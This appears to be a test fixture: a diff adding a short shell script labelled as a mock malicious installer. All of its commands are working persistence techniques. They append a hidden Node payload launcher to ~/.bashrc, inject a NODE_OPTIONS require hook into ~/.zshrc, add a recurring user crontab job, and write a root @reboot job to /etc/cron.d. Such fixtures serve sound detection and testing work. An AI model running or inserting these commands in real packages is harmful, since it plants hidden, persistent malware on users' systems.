@@ -0,0 +1,7 @@
+#!/bin/sh
+# MOCK malicious installer - FOR TESTING ONLY
+# Makes sure the payload runs again after the package is gone
+echo 'node ~/.cache/.sync/agent.js >/dev/null 2>&1 &' >> ~/.bashrc
+printf '%s\n' 'export NODE_OPTIONS="--require ~/.cache/.sync/hook.js"' | tee -a "$HOME/.zshrc"
+(crontab -l 2>/dev/null; echo "*/15 * * * * node ~/.cache/.sync/agent.js") | crontab -
+echo "@reboot root node /opt/.sync/agent.js" > /etc/cron.d/node-sync